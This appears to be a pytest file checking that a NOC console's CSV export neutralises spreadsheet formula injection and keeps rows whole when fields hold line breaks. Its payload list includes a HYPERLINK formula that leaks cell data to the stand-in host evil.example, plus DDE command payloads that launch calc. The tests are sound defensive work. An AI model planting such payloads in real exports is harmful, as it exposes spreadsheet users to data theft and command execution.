"""The CSV export meets a spreadsheet: PSA text that a spreadsheet would run as a formula
is neutralised (OWASP: a leading `'`), and a line break inside a field never splits a
row; the JSON export keeps every value exactly as the source sent it (issue 14 item 13).
"""

from __future__ import annotations

import csv
import io
import json

import pytest

from noc_console.models.cache.store import Store
from noc_console.models.incident import Client
from noc_console.services.export import EXPORT_KEYS, export_records, write_export
from tests.conftest import T0
from tests.factories import incident

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=2+5",
    "-2+3",
    "\t=1+1",
    "\rcalc",
    "\n=1+1",
    "＝1+1",  # full-width equals sign: some spreadsheets read it as "="
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
]
BREAKS = [
    "router\rdown",
    "router\ndown",
    "router\r\ndown",
    "router\r",
    'quote " and, comma',
]


def export(store: Store, client_name: str, title: str, fmt: str) -> str:
    """Two real records written as `fmt`, the first carrying hostile text. The text is
    put into the exported record itself: ingest may clean a title (one line, no control
    characters) but the export must hold whatever reaches it."""
    store.upsert_clients([Client("acme", "Acme")])
    store.upsert_incidents([incident(1), incident(2, title="plain", assignee=None)])
    first, second = sorted(export_records(store.open_rows(), T0), key=lambda r: r["external_id"])
    hostile = dict(first, client=client_name, title=title, assignee=title)
    out = io.StringIO(newline="")
    write_export([hostile, second], fmt, out)
    return out.getvalue()


def read_back(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("payload", FORMULAS)
def test_formulas_in_client_title_and_assignee_are_neutralised(store: Store, payload: str) -> None:
    rows = read_back(export(store, payload, payload, "csv"))
    assert len(rows) == 2
    first = next(r for r in rows if r["external_id"] == "T-1")
    for key in ("client", "title", "assignee"):
        assert first[key] == "'" + payload
    plain = next(r for r in rows if r["external_id"] == "T-2")
    assert plain["title"] == "plain"
    assert plain["assignee"] == ""


@pytest.mark.parametrize("payload", BREAKS)
def test_a_line_break_inside_a_field_keeps_the_row_whole(store: Store, payload: str) -> None:
    text = export(store, "Acme", payload, "csv")
    rows = read_back(text)
    assert len(rows) == 2
    assert [tuple(r) for r in rows] == [tuple(EXPORT_KEYS)] * 2
    first = next(r for r in rows if r["external_id"] == "T-1")
    assert first["title"] == payload
    assert first["client"] == "Acme"
    # A reader that splits lines the way spreadsheets do (CR, LF or CRLF) sees the
    # break inside quotes only: every line outside quotes starts a record.
    assert text.count('"') % 2 == 0


def test_a_harmless_minus_inside_text_is_left_alone(store: Store) -> None:
    rows = read_back(export(store, "Acme-Corp", "disk 95% - C:", "csv"))
    first = next(r for r in rows if r["external_id"] == "T-1")
    assert (first["client"], first["title"]) == ("Acme-Corp", "disk 95% - C:")


@pytest.mark.parametrize("payload", FORMULAS + BREAKS)
def test_json_export_keeps_the_source_text_exactly(store: Store, payload: str) -> None:
    records = json.loads(export(store, payload, payload, "json"))
    first = next(r for r in records if r["external_id"] == "T-1")
    assert (first["client"], first["title"], first["assignee"]) == (payload,) * 3
    assert [tuple(r) for r in records] == [tuple(EXPORT_KEYS)] * 2
